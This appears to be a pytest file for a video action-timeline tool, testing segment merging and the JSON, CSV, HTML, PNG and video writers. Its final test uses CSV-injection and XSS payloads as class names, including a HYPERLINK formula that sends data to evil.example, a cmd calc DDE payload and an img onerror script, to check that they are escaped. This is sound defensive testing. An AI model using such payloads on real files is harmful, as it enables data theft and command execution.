"""Timeline of a long video from per-window probabilities: exact segment boundaries, top-k rows, the writers (JSON,
CSV, self-contained HTML, PNG, annotated video) on real decoded frames, and per-backbone preprocessing."""
import csv
import json

import cv2
import numpy as np
import pandas as pd
import pytest

from dlkdd.infer.timeline import (SCHEMA, Thumbnails, WindowResult, annotated_writer, brighten_for_display,
                                  label_at, merge_segments, owned_spans, topk_rows, write_timeline)

CLASSES = ["Drink", "Jump", "Sit"]


def one_hot_windows(labels, probs, length, stride):
    """Windows of ``length`` s every ``stride`` s whose top class is ``labels[i]`` with probability ``probs[i]``
    (the rest shared equally by the other classes)."""
    out = []
    for i, (c, p) in enumerate(zip(labels, probs)):
        v = np.full(len(CLASSES), (1 - p) / (len(CLASSES) - 1), np.float32)
        v[CLASSES.index(c)] = p
        out.append(WindowResult(i * stride, i * stride + length, v))
    return out


def test_segments_of_back_to_back_windows_end_exactly_at_window_edges_and_low_windows_break_them():
    w = one_hot_windows(["Drink", "Drink", "Sit", "Sit", "Sit", "Sit", "Drink"], [.9, .7, .8, .6, .9, .3, .95],
                        length=2.0, stride=2.0)
    segs = merge_segments(w, CLASSES, min_prob=0.5)
    assert [(s.start_s, s.end_s, s.label, s.first, s.last) for s in segs] == [
        (0.0, 4.0, "Drink", 0, 1), (4.0, 10.0, "Sit", 2, 4), (12.0, 14.0, "Drink", 6, 6)]
    assert segs[0].mean_prob == pytest.approx(0.8) and segs[1].mean_prob == pytest.approx((.8 + .6 + .9) / 3)
    assert label_at(segs, 5.0).label == "Sit" and label_at(segs, 11.0) is None
    # a higher threshold drops the 0.6 window, which splits the Sit run in two
    assert [(s.start_s, s.end_s) for s in merge_segments(w, CLASSES, 0.65)] == [(0, 4), (4, 6), (8, 10), (12, 14)]


def test_overlapping_windows_cut_at_the_midpoint_between_window_centres():
    w = one_hot_windows(["Jump", "Jump", "Jump", "Sit", "Sit"], [.9] * 5, length=2.0, stride=1.0)
    assert owned_spans(w) == [(0.0, 1.5), (1.5, 2.5), (2.5, 3.5), (3.5, 4.5), (4.5, 6.0)]
    segs = merge_segments(w, CLASSES, 0.5)
    assert [(s.start_s, s.end_s, s.label) for s in segs] == [(0.0, 3.5, "Jump"), (3.5, 6.0, "Sit")]


def test_a_gap_in_time_ends_a_segment_even_for_the_same_class():
    w = one_hot_windows(["Sit", "Sit"], [.9, .9], length=1.0, stride=1.0)
    w.append(WindowResult(5.0, 6.0, w[0].probs))  # windows 2..5 s missing (e.g. frames that failed to decode)
    assert [(s.start_s, s.end_s) for s in merge_segments(w, CLASSES, 0.5)] == [(0.0, 2.0), (5.0, 6.0)]


def test_topk_rows_rank_each_windows_classes():
    w = [WindowResult(0.0, 1.0, np.array([.2, .5, .3], np.float32)), WindowResult(1.0, 2.0, np.array([.6, .1, .3]))]
    rows = topk_rows(w, CLASSES, 2)
    assert [(r["window"], r["rank"], r["class"]) for r in rows] == [(0, 1, "Jump"), (0, 2, "Sit"), (1, 1, "Drink"),
                                                                    (1, 2, "Sit")]
    assert rows[0]["prob"] == pytest.approx(0.5) and rows[0]["start_s"] == 0.0 and rows[0]["end_s"] == 1.0


@pytest.fixture(scope="module")
def real_frames(tiny_dataset):
    """The RGB frames (T, H, W, 3) of a real generated dark clip."""
    from dlkdd.data.video import read_video

    m = pd.read_csv(tiny_dataset)
    frames, _ = read_video(tiny_dataset.parent / m["path"].iloc[0])
    return frames


def test_write_timeline_files_are_complete_and_the_html_is_self_contained(real_frames, tmp_path):
    rng = np.random.default_rng(0)
    labels = ["Drink"] * 4 + ["Jump"] * 3 + ["Sit"] * 5
    w = one_hot_windows(labels, rng.uniform(0.55, 0.95, len(labels)), length=1.0, stride=0.5)
    thumbs = Thumbnails(max_count=4)
    for win, frame in zip(w, real_frames):
        thumbs.offer(win.start_s, frame)
    paths = write_timeline(tmp_path / "timeline", "videos/night cam.mp4", CLASSES, w, k=2, min_prob=0.5,
                           thumbnails=thumbs.items(), model="student.onnx")
    assert sorted(p.name for p in (tmp_path / "timeline").iterdir()) == sorted(
        f"night cam.{s}" for s in ("windows.csv", "segments.csv", "json", "html", "png"))  # no temp files left
    doc = json.loads(paths["json"].read_text())
    assert doc["schema"] == SCHEMA and doc["classes"] == CLASSES and doc["model"] == "student.onnx"
    assert len(doc["windows"]) == len(w) and doc["windows"][5]["class"] == "Jump"
    assert doc["windows"][0]["probs"] == pytest.approx(w[0].probs.tolist(), abs=1e-6)
    assert [(s["class"], s["start_s"], s["end_s"]) for s in doc["segments"]] == [
        ("Drink", 0.0, 2.25), ("Jump", 2.25, 3.75), ("Sit", 3.75, 6.5)]
    with open(paths["windows"]) as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == 2 * len(w) and rows[0].keys() == {"window", "start_s", "end_s", "rank", "class", "prob"}
    html = paths["html"].read_text()
    assert "http://" not in html and "https://" not in html and "<script" not in html and "<link" not in html
    assert html.count('src="data:image/jpeg;base64,') == len(thumbs.items()) >= 2
    assert "<svg" in html and html.count("<polyline") == len(CLASSES) and "night cam.mp4" in html
    png = cv2.imread(str(paths["png"]))
    assert png is not None and png.shape[1] == 960 and png.std() > 0


def test_thumbnails_stay_few_and_evenly_spaced_over_a_stream_of_unknown_length(real_frames):
    thumbs = Thumbnails(max_count=5, height=24)
    for i in range(100):
        thumbs.offer(float(i), real_frames[i % len(real_frames)])
    times = [t for t, _ in thumbs.items()]
    assert 3 <= len(times) <= 5 and times[0] == 0.0
    assert len(set(np.diff(times))) == 1  # even spacing
    img = cv2.imdecode(np.frombuffer(thumbs.items()[0][1], np.uint8), cv2.IMREAD_COLOR)
    assert img.shape[0] == 24


def test_brightening_is_for_display_and_leaves_the_frame_alone(real_frames):
    frame = real_frames[0]
    before = frame.copy()
    bright = brighten_for_display(frame)
    assert bright.mean() > 3 * frame.mean() and np.array_equal(frame, before)


def test_annotated_video_has_every_frame_with_the_label_drawn_and_nothing_on_failure(real_frames, tmp_path):
    h, w = real_frames.shape[1:3]
    out = tmp_path / "annotated.mp4"
    with annotated_writer(out, 15.0, (w, h)) as write:
        for f in real_frames:
            write(f, "Drink 0.91")
    cap = cv2.VideoCapture(str(out))
    decoded = []
    while True:
        ok, frame = cap.read()
        if not ok:
            break
        decoded.append(frame)
    cap.release()
    assert len(decoded) == len(real_frames)
    corner = (slice(0, h // 4), slice(0, w // 2))
    assert decoded[0][corner].max() > 200 > real_frames[0][corner].max()  # white text on a dark frame
    broken = tmp_path / "broken.mp4"
    with pytest.raises(RuntimeError), annotated_writer(broken, 15.0, (w, h)) as write:
        write(real_frames[0], "Sit 0.50")
        raise RuntimeError("decoder died")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["annotated.mp4"]


@pytest.mark.parametrize("arch", ["r3d_18", "mc3_18", "r2plus1d_18", "s3d", "mvit_v1_b", "swin3d_t"])
def test_each_torchvision_backbone_normalises_with_its_own_weights_statistics(arch):
    import torchvision.models as tvm

    from dlkdd.models.build import preprocessing

    t = tvm.get_model_weights(arch).DEFAULT.transforms()  # torchvision's preset for the weights: no download
    prep = preprocessing(arch)
    assert prep.mean == tuple(t.mean) and prep.std == tuple(t.std) and prep.crop_size == tuple(t.crop_size)


def test_swin_model_normalises_with_imagenet_statistics_and_tiny3d_keeps_its_training_ones():
    import torch

    from dlkdd.models.build import KINETICS_MEAN, KINETICS_STD, build_model

    swin = build_model("swin3d_t", 3)
    assert swin.mean.flatten().tolist() == pytest.approx([0.485, 0.456, 0.406])
    assert swin.std.flatten().tolist() == pytest.approx([0.229, 0.224, 0.225])
    tiny = build_model("tiny3d", 3)
    assert torch.equal(tiny.mean.flatten(), torch.tensor(KINETICS_MEAN))
    assert torch.equal(tiny.std.flatten(), torch.tensor(KINETICS_STD))


def test_back_to_back_windows_at_frame_times_merge_into_one_segment():
    """Window times are frame / fps (64 / 15 = 4.2666...): float rounding between neighbours is not a gap."""
    fps, span = 15.0, 32
    probs = np.array([0.9, 0.1])
    windows = [WindowResult(k * span / fps, (k + 1) * span / fps, probs) for k in range(6)]
    (seg,) = merge_segments(windows, ["Walk", "Wave"], 0.5)
    assert (seg.first, seg.last, seg.start_s, seg.end_s) == (0, 5, 0.0, 6 * span / fps)


def test_csv_cells_that_a_spreadsheet_would_run_are_quoted_and_the_json_keeps_the_exact_names(tmp_path):
    """OWASP's CSV-injection rule on the spreadsheet outputs; the HTML escapes the same names; the JSON (for programs)
    keeps them exactly."""
    classes = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
               "\tTab", "<img src=x onerror=alert(1)>"]
    video = 'night/=HYPERLINK("x").mp4'
    windows = []
    for i, _ in enumerate(classes):
        p = np.full(len(classes), 0.02, np.float32)
        p[i] = 1 - 0.02 * (len(classes) - 1)
        windows.append(WindowResult(float(i), float(i + 1), p))
    paths = write_timeline(tmp_path, video, classes, windows, k=2, min_prob=0.5, smoothing=1)
    for kind in ("windows", "segments"):
        with open(paths[kind], newline="") as fh:
            rows = list(csv.DictReader(fh))
        cells = [r["class"] for r in rows]
        assert set(cells) >= {"'" + c for c in classes[:5]} and classes[5] in cells, cells
        assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for c in r.values()), rows
        assert all(float(r["start_s"]) >= 0 for r in rows)  # numbers stay numbers
    doc = json.loads(paths["json"].read_text())
    assert doc["video"] == video and doc["classes"] == classes
    assert [s["class"] for s in doc["segments"]] == classes
    page = paths["html"].read_text()
    assert "<img src=x" not in page and "&lt;img src=x onerror=alert(1)&gt;" in page
    assert '=HYPERLINK(&quot;x&quot;).mp4' in page
